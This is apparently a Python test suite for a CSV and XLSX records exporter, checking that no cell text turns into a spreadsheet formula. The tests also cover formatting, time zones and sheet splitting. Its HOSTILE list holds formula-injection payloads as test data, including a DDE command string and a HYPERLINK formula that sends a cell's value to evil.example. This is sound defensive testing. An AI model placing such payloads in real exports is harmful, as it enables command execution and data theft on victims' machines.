"""The two formats of a file of records: what goes in comes out, and nothing of it is ever a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from files.cells import MAX_CELL, clean, guarded, is_risky
from files.csv_file import MARK, SEPARATORS, csv_chunks
from files.rows import COLUMNS, Cell, Kind, Row, headings
from files.spool import pack, unpack
from files.xlsx_file import chunks_of, write_xlsx
from tests.memory import START

ZONE = ZoneInfo("America/Sao_Paulo")
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Whatever OWASP's page and its readers' comments list, and what only this code has to fear.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufeff=1",
    '"=1+1',
    "x;=1+1",
    "x, =1+1",
    'x";"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "{=1+1}",
    "<r></r></is></c><c r='Z9'><f>1+1</f></c><c t='inlineStr'><is><r></r>",
    "<f>1+1</f>",
    "_x003D_1+1",
    "http://evil.example",
    "internal:Sheet2!A1",
    "123",
    "\x00=1",
    "\ud800",
    "\uffff",
]

TEXTS = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=40), st.text(alphabet="=+-@;,|\"' \t\r\nA1\uff1d<r>/", max_size=12)
)
BEGINS = "=+-@\uff1d\uff0b\uff0d\uff20"


def row(text: str = "", **changes: Cell) -> Row:
    """With `text` in every column of text."""
    cells: dict[str, Cell] = {
        column.name: {Kind.TEXT: clean(text) or None, Kind.NUMBER: 7, Kind.TIME: START, Kind.YES_NO: True}[column.kind]
        for column in COLUMNS
    }
    return list((cells | {"sku": 42} | changes).values())


def written_csv(rows: Sequence[Row], language: str = "pt") -> str:
    return b"".join(csv_chunks(rows, language=language, zone=ZONE)).decode()


def parsed(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline=""), delimiter=separator))


class Workbook:
    """What is in the XML of a workbook, read without any library for it."""

    def __init__(self, path: Path) -> None:
        with ZipFile(path) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
        book = ElementTree.fromstring(self.parts["xl/workbook.xml"])
        self.names = [sheet.attrib["name"] for sheet in book.iter(f"{NS}sheet")]
        styles = ElementTree.fromstring(self.parts["xl/styles.xml"])
        (formats,) = styles.iter(f"{NS}cellXfs")
        self.formats = list(formats)

    def sheet(self, number: int = 1) -> ElementTree.Element:
        return ElementTree.fromstring(self.parts[f"xl/worksheets/sheet{number}.xml"])

    def rows(self, number: int = 1) -> list[dict[str, Any]]:
        """Cells by their column's letters: texts as str, numbers as float."""
        return [
            {re.sub(r"\d", "", cell.attrib["r"]): self._value(cell) for cell in each.iter(f"{NS}c")}
            for each in self.sheet(number).iter(f"{NS}row")
        ]

    def _value(self, cell: ElementTree.Element) -> str | float:
        if cell.attrib.get("t") == "inlineStr":
            text = "".join(part.text or "" for part in cell.iter(f"{NS}t"))
            return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)  # as Excel reads it
        return float(cell.findtext(f"{NS}v") or "")


def written_xlsx(folder: Path, rows: Sequence[Row], language: str = "pt", **more: Any) -> Workbook:
    path = folder / "file.xlsx"
    about = [("Conta", "loja"), ("Pedido por", "=ana")]
    write_xlsx(path, rows, lambda: about, language=language, zone=ZONE, **more)
    assert b"".join(chunks_of(path)) == path.read_bytes()
    return Workbook(path)


def shown_at(days: float) -> str:
    """What Excel shows for its days."""
    return f"{datetime(1899, 12, 30, tzinfo=UTC) + timedelta(days=days, seconds=0.1):%Y-%m-%d %H:%M}"


# ---------------------------------------------------------------------- no formulas


@settings(max_examples=60)
@given(TEXTS)
def test_no_text_becomes_a_formula_in_csv_whichever_separator_it_is_read_with(text: str) -> None:
    file = written_csv([row(text)])
    cells = [cell for separator in ";,|\t" for line in parsed(file, separator) for cell in line]
    cells += [re.sub(r'^[\s"]+', "", piece) for piece in re.split(r"[;,|\t\r\n]", file.removeprefix(MARK))]
    assert [cell for cell in cells if cell.lstrip().startswith(tuple(BEGINS))] == []


@given(TEXTS, st.sampled_from(sorted(SEPARATORS)))
def test_csv_parses_back_to_the_same_cells_apart_from_the_guard(text: str, language: str) -> None:
    _, line = parsed(written_csv([row(text)], language), SEPARATORS[language])
    message = line[[column.name for column in COLUMNS].index("message")]
    assert message == guarded(clean(text))
    if not re.search(rf"(\A|[;,|])\W*[{BEGINS}]", clean(text)):
        assert message == clean(text)
    assert message.replace("'", "") == clean(text).replace("'", "")


@settings(max_examples=10, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TEXTS, min_size=10, max_size=50))
def test_no_text_becomes_a_formula_in_a_workbook_and_each_comes_back(tmp_path: Path, texts: list[str]) -> None:
    book = written_xlsx(tmp_path, [row(text) for text in texts])
    for number in range(1, len(book.names) + 1):
        assert {part.tag for part in book.sheet(number).iter()} & {
            f"{NS}f",
            f"{NS}hyperlink",
            f"{NS}oleObject",
        } == set()
    assert [name for name in book.parts if "externalLink" in name] == []
    back = [each.get("H", "").strip() for each in book.rows()[1:]]
    assert back == [clean(text) for text in texts]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_be_a_formula_if_it_were_typed_in_is_marked_as_text(tmp_path: Path, text: str) -> None:
    book = written_xlsx(tmp_path, [row(text)])
    (cell,) = [cell for cell in book.sheet().iter(f"{NS}c") if cell.attrib["r"] == "H2"] or [None]
    if cell is None:
        assert clean(text) == ""
        return
    assert cell.attrib["t"] == "inlineStr"
    quoted = book.formats[int(cell.attrib.get("s", 0))].attrib.get("quotePrefix") == "1"
    assert quoted == is_risky(clean(text)) == (clean(text).lstrip('\ufeff"')[:1] in BEGINS)


def test_whoever_asked_cannot_smuggle_a_formula_into_the_second_sheet(tmp_path: Path) -> None:
    book = written_xlsx(tmp_path, [row()])
    assert book.names == ["Registros", "Sobre"]
    assert [list(each.values()) for each in book.rows(2)] == [["Conta", "loja"], ["Pedido por", "=ana"]]
    assert b"<f>" not in book.parts["xl/worksheets/sheet2.xml"]


# ---------------------------------------------------------------------- what a reader sees


def test_csv_is_utf_8_with_its_mark_crlf_and_the_languages_own_separator() -> None:
    for language, separator, minutes, yes in (("pt", ";", '"1,5"', '"sim"'), ("en", ",", "1.5", '"yes"')):
        file = written_csv([row("ação", minutes=1.5)], language)
        assert file.startswith(MARK)
        head, line, end = file.removeprefix(MARK).split("\r\n")
        assert end == ""
        assert head == separator.join(f'"{name}"' for name in headings(language))
        assert line.split(separator)[0] == "42"
        assert {'"ação"', minutes, yes, "2025-12-31 21:00:00"} <= set(line.split(separator))


def test_an_empty_cell_is_empty_and_a_long_one_is_cut_to_what_excel_takes(tmp_path: Path) -> None:
    long = row("x" * 40_000, confirmed=None)
    cells = dict(zip((column.name for column in COLUMNS), parsed(written_csv([long]), ";")[1], strict=True))
    assert (cells["confirmed"], len(cells["message"])) == ("", MAX_CELL)
    (_, line) = written_xlsx(tmp_path, [long]).rows()
    assert "L" not in line
    assert len(line["H"]) == MAX_CELL


def test_a_workbook_has_a_bold_frozen_heading_a_filter_numbers_and_real_dates(tmp_path: Path) -> None:
    book = written_xlsx(tmp_path, [row("ok", minutes=1.5), row("ok", changed_at=START + 43_200_000)])
    sheet = book.sheet()
    (pane,) = sheet.iter(f"{NS}pane")
    assert (pane.attrib["ySplit"], pane.attrib["state"]) == ("1", "frozen")
    (filtered,) = sheet.iter(f"{NS}autoFilter")
    assert filtered.attrib["ref"] == "A1:R3"
    assert [int(each.attrib["max"]) for each in sheet.iter(f"{NS}col")][-1] == len(COLUMNS)
    assert b"<b/>" in book.parts["xl/styles.xml"]
    heading, first, second = book.rows()
    assert list(heading.values()) == headings("pt")
    assert (first["A"], first["O"], first["P"]) == (42.0, 1.5, "sim")
    assert shown_at(first["M"]) == "2025-12-31 21:00"
    assert second["M"] - first["M"] == 0.5
    assert b"dd/mm/yyyy hh:mm:ss" in book.parts["xl/styles.xml"]


def test_the_clocks_of_a_zone_that_changes_them_are_followed(tmp_path: Path) -> None:
    summer, winter = (int(datetime(2026, month, 1, 12, tzinfo=UTC).timestamp() * 1000) for month in (7, 1))
    path = tmp_path / "file.xlsx"
    rows = [row(changed_at=summer), row(changed_at=winter)]
    write_xlsx(path, rows, list, language="es", zone=ZoneInfo("Europe/Madrid"))
    shown = [shown_at(each["M"]) for each in Workbook(path).rows()[1:]]
    assert shown == ["2026-07-01 14:00", "2026-01-01 13:00"]


def test_rows_beyond_a_sheet_go_on_another_with_a_heading_of_its_own(tmp_path: Path) -> None:
    for count, sheets in ((3, [3]), (4, [3, 1]), (7, [3, 3, 1]), (0, [0])):
        book = written_xlsx(tmp_path, [row(sku=1 + number) for number in range(count)], sheet_rows=4)
        assert len(book.names) == len(sheets) + 1
        assert [len(book.rows(number)) - 1 for number in range(1, len(sheets) + 1)] == sheets
        assert all(book.rows(number)[0]["A"] == "SKU" for number in range(1, len(sheets) + 1))


@settings(max_examples=30)
@given(st.lists(st.tuples(TEXTS, st.none() | st.integers(0, 10**13), st.none() | st.floats(0, 1e9)), max_size=5))
def test_the_spool_gives_back_what_it_was_given(cells: list[tuple[str, int | None, float | None]]) -> None:
    rows = [row(text, removed_at=at, minutes=minutes) for text, at, minutes in cells] or [row()]
    assert list(unpack(pack(rows))) == rows
    assert pack(rows) == pack(rows)
